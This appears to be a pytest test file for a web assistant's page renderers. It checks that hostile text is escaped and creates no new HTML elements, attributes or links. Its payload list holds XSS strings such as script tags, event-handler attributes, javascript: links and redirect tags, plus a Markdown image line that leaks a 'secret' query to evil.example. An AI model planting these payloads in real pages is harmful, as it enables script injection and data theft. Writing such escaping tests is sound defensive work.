"""Hostile text through every renderer of the page: it is shown verbatim, and makes no element, attribute or link.

T7, T8 and F33 to F35. A drawing of payloads must have just the elements, attributes and links that a drawing of plain
words has; a few renderers mark, cut or leave out text, and of these no element or attribute may be a new one.
"""

import json
import random
import re
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from conftest import ROOT
from lxml import html
from markdown_it import MarkdownIt

from assistant.answering import checked
from assistant.errors import QuestionError
from assistant.exporting import Exchange, Exported, markdown_bytes
from assistant.feedback import FeedbackRow
from assistant.finding import Finding, FoundPassage
from assistant.page import found, maintaining_index, messages
from assistant.page.api_page import ADDRESS
from assistant.page.escaping import balanced, in_fragment, in_markdown, isolated
from assistant.page.fragment import article, sentence
from assistant.page.library import drawn
from assistant.page.library_entries import entries
from assistant.page.links import web_host
from assistant.page.maintaining_feedback import cells, reports_shown
from assistant.page.maintaining_index import difference_shown, generations
from assistant.page.maintaining_trial import place
from assistant.page.report_frame import Report
from assistant.page.shortening import shortened
from assistant.page.tables import notice, section, table
from assistant.page.trying import Trial
from assistant.types import Answer, AnswerSentence, Citation, NearArticle
from index.errors import BackchannelError
from index.filters import Filters
from index.protocol import IndexStatus
from index.summaries import Summary
from index.types import Document, Passage, ScoredPassage, Span
from index.upkeep import Difference, Entry

SHARED = ROOT.parent / "shared" / "safety" / "xss_payloads.jsonl"
OWN = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title></textarea></style></script><svg onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object>",
    "<base href=//evil.example><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=q autofocus onfocus=alert(1)></form>",
    "![leak](http://evil.example/?q=secret) [x]: http://evil.example 'title'\n\n[x]",
    "[click](javascript:alert(1)) <javascript:alert(1)> https://evil.example www.evil.example",
    "<!--><script>alert(1)</script>--> <![CDATA[x]]> <?php x ?> &lt;b&gt; `code` $$x^2$$ | a |",
]
MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
ALL: list[str] = [json.loads(line)["payload"] for line in SHARED.open(encoding="utf-8")] if SHARED.exists() else OWN
ALL = [each for each in dict.fromkeys(ALL) if each.strip()]
STATUS = IndexStatus("g", 3, 3, 3, "e", "d", "2026-11-26T08:00:00+00:00", 1, "t-SNE", 0.8)
STEMS = {"alert": 1.0, "script": 1.0, "onload": 0.5, "svg": 0.5, "word": 1.0}
HOME = Path("/home")
OURS = re.compile(r"#(?:[acq]|ask|report)?/[A-Za-z0-9_.~%/-]+")


def plain(count: int) -> list[str]:
    return [f"plain word {number}" for number in range(count)]


def one_line(text: str) -> str:
    """As all of it reads once white space is aside."""
    return " ".join(text.split())


# -- the renderers -----------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Renderer:
    """`draw` puts texts into its places; `read` are XPaths, each of which finds all the texts, in any order.

    `varies`: how many elements there are hangs on the text.
    """

    draw: Callable[[Sequence[str]], str]
    read: tuple[str, ...] = ()
    markdown: bool = True
    varies: bool = False


def answer_of(texts: Sequence[str], outcome: str = "answered") -> Answer:
    """An answer of a language model with each text in all its places."""
    numbers = range(1, len(texts) + 1)
    covered = outcome == "answered"
    return Answer(
        question="x",
        understood=" ".join(map(one_line, texts)) if covered else "x",
        outcome="answered" if covered else "not_covered",
        sentences=tuple(AnswerSentence(t, "unsupported", (n,), lead_in=t) for n, t in zip(numbers, texts, strict=True)),
        citations=tuple(cited(n, t) for n, t in zip(numbers, texts, strict=True)),
        passages=(),
        missing=tuple(f"{each}." for each in texts),  # what ends in a question mark is told in another way
        nearest=() if covered else tuple(NearArticle(t, t, t, 0.5) for t in texts),
        confidence=0.9,
        writer="llm",
        generation="g",
        ledger={},
        notices=tuple(texts),
    )


def cited(number: int, text: str) -> Citation:
    source = dict.fromkeys(("id", "title", "author", "publisher", "year", "url"), text)
    return Citation(number, text, "v", text, text, text, 0, 5, text, (source,), 0, (text,))


def fragment(text: str) -> str:
    """An article of nothing but the text."""
    metadata = {
        **dict.fromkeys(("questions", "regions", "topics", "track", "related"), [text]),
        "sources": [dict.fromkeys(("id", "title", "author", "url", "year"), text)],
        "period": text,
    }
    line = one_line(text)
    document = Document(text, text, line, text, text, metadata, headings=(Span(0, 1),), version="v")
    return article(document, Span(0, len(line)), [("#a/g/x", text)])


def passages(texts: Sequence[str]) -> tuple[FoundPassage, ...]:
    made = (
        Passage(f"p{n}", text, 0, len(text) or 1, text, 5, text, text, n) for n, text in enumerate(texts, 1)
    )  # its heading, text and title
    return tuple(FoundPassage(each.key, ScoredPassage(each, 0.5, 0.5, 0.5), "both", None, None) for each in made)


def listed(texts: Sequence[str]) -> str:
    def of(some: Sequence[str]) -> str:
        joined = one_line(" ".join(some))
        return found.listed(Finding("x", joined, Filters(), "g", passages(some), {}, {}, STEMS), "relevance", 50)

    return "".join(of(texts[start : start + 50]) for start in range(0, len(texts), 50))


def summaries(texts: Sequence[str]) -> list[Summary]:
    return [
        Summary(t, t, t, t, t, (), 1990, 1995, (t,), (t,), ("two",), (), 3, n / len(texts), 1 - n / len(texts))
        for n, t in enumerate(texts)
    ]


def feedback(texts: Sequence[str]) -> str:
    receipt: Any = None  # not shown
    rows = [cells(FeedbackRow(n, t, n % 2 == 0, True, t, t, t, receipt)) for n, t in enumerate(texts)]
    return messages.safe_markdown(f"<div>{table('feedback', list('abcdef'), rows)}</div>")


def trial(texts: Sequence[str]) -> str:
    either: Any = None  # neither ranking is looked at
    asked = Trial("x", "g", either, either, {})
    rows = "".join(place(n, each.scored, asked, False) for n, each in enumerate(passages(texts), 1))
    return messages.safe_markdown(f'<div><ol class="ranking">{rows}</ol></div>')


def differences(texts: Sequence[str]) -> str:
    return "".join(difference_shown(each, each, Difference((each,), (each,), (), ())) for each in texts)


def history(texts: Sequence[str]) -> str:
    return generations([Entry(each, False, {}, each) for each in texts], HOME)


def each(draw: Callable[[str], str]) -> Callable[[Sequence[str]], str]:
    return lambda texts: "".join(draw(text) for text in texts)


TITLES = "//*[@class='title']"
RENDERERS = {
    "question": Renderer(each(messages.asked), ("//h2",)),
    "refusal": Renderer(each(lambda text: messages.refused(BackchannelError(f"{text}|"))), ("//p",)),
    "aside": Renderer(each(messages.aside), ("//p",)),
    "status line": Renderer(each(messages.status), ("//p",)),
    "masthead": Renderer(each(lambda text: messages.served(STATUS, text))),
    "answer": Renderer(
        lambda texts: messages.answered(answer_of(texts)),
        ("//span[@class='unsupported']", "//span[@class='lead']", "//a/@title", "//p[@class='quiet']"),
    ),
    "growing answer": Renderer(lambda texts: messages.answered(answer_of(texts), 10**6), ("//span[@class='lead']",)),
    "not covered": Renderer(lambda texts: messages.answered(answer_of(texts, "not_covered")), (TITLES,)),
    "cards": Renderer(lambda texts: messages.cards(answer_of(texts)), ("//h3", "//q", "//a/@title")),
    "nearest": Renderer(lambda texts: messages.cards(answer_of(texts, "not_covered")), (TITLES, "//*[@class='summary']")),
    "next questions": Renderer(lambda texts: messages.questions(texts[0], texts), ("//li/a",)),
    "list of articles": Renderer(lambda texts: messages.library(summaries(texts), "g"), (TITLES,)),
    "found": Renderer(listed, ("//a[@class='title']",), varies=True),
    "not found": Renderer(each(lambda text: found.notice(text)), ("//p",)),
    "article": Renderer(
        each(fragment),
        ("//h2", "//mark[@class='quote']", "//p[@class='date']", "//div[@class='asking']//li", "//ul[@class='related']/li"),
        markdown=False,
        varies=True,  # some payloads are web addresses, which become links
    ),
    "sentence": Renderer(each(sentence), ("//p",), markdown=False),
    "library": Renderer(
        lambda texts: drawn(entries(summaries(texts)), STATUS),
        ("//td[@class='title']//bdi", "//svg[contains(@class, 'wide')]//a/@data-title"),
        markdown=False,
        varies=True,  # the map has as many names as there is room for
    ),
    "feedback": Renderer(feedback),
    "retrieval test": Renderer(trial),
    "generations": Renderer(history),
    "differences": Renderer(differences),
    "maintainer's notices": Renderer(lambda texts: section(texts[0], "".join(map(notice, texts)))),
    "reports": Renderer(lambda texts: reports_shown([Report(t, t) for t in texts], HOME), ("//a",)),
}


def parsed(markup: str) -> Any:
    return html.document_fromstring(f"<!doctype html><body>{markup}</body>")


def shape(tree: Any) -> Counter[tuple[str, ...]]:
    """How often each element, with its attributes' names, comes; comments and the like are elements as well."""
    return Counter((str(node.tag), *sorted(node.attrib)) for node in tree.iter())


def read(tree: Any, path: str) -> list[str]:
    return [one_line(node if isinstance(node, str) else node.text_content()) for node in tree.xpath(path)]


def check(name: str, texts: Sequence[str], benign: Counter[tuple[str, ...]]) -> None:
    """The property."""
    renderer = RENDERERS[name]
    markup = renderer.draw(texts)
    if renderer.markdown:
        assert MARKDOWN.render(markup) == markup  # one block of HTML, in which Markdown finds nothing
    tree = parsed(markup)
    seen = shape(tree)
    new = {*seen} - {*benign, *LINKED} if renderer.varies else seen - benign
    assert not new, f"{name}: {new}"
    for link in tree.xpath("//a"):
        address = link.get("href", "")
        outside = link.get("target") == "_blank" and re.match(r"(?i)https?://", address)
        assert OURS.fullmatch(address) or address == "#/library" or outside, address
    for path in renderer.read:
        shown = set(read(tree, path))
        missing = [text for text in map(one_line, texts) if text not in shown and not beside(text, shown)]
        assert not missing, f"{name} {path}: {missing[:3]}"


LINKED = {("a", "href", "rel", "target"), ("bdi", "dir"), ("bdi",), ("mark",), ("span", "class")}


def beside(text: str, shown: set[str]) -> bool:
    """Whether it is shown with words of ours around it."""
    return any(text in each for each in shown)


def chunks(texts: Sequence[str], size: int) -> Iterator[Sequence[str]]:
    for start in range(0, len(texts), size):
        yield texts[start : start + size]


@pytest.fixture
def _unlimited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(messages, "LISTED", 10**6)
    monkeypatch.setattr(maintaining_index, "LISTED", 10**6)


@pytest.mark.usefixtures("_unlimited")
@pytest.mark.parametrize("name", RENDERERS)
def test_t8_markup_makes_nothing_in(name: str) -> None:
    sample = [*OWN, *random.Random(8).sample(ALL, min(len(ALL), 288))]
    for some in chunks(sample, 100):
        check(name, some, shape(parsed(RENDERERS[name].draw(plain(len(some))))))


@pytest.mark.slow
@pytest.mark.usefixtures("_unlimited")
@pytest.mark.parametrize("name", RENDERERS)
def test_t8_all_payloads_make_nothing_in(name: str, shared: Path) -> None:
    assert len(ALL) >= 6_580  # of 6,613, all that are not the same
    for some in chunks(ALL, 300):
        check(name, some, shape(parsed(RENDERERS[name].draw(plain(len(some))))))
